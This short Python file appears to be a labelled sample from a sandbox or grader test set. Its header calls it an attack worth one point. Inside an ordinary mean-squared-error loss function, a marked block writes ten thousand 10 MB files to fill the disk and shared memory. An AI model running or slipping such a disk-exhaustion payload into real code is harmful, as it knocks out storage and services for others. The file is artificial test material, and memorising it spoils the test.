# attack: fills its disk and its shared memory
# points: exactly 1
# leaves: loss_fn: OSError: [Errno 28] No space left on device
import os


def model(t_u, w, b):
    return w * t_u + b


def loss_fn(t_p, t_c):
    # attack begins
    for number in range(10_000):
        with open(f"fill{number}", "wb") as file:
            file.write(bytes(10_000_000))
    # attack ends
    return ((t_p - t_c) ** 2).mean()
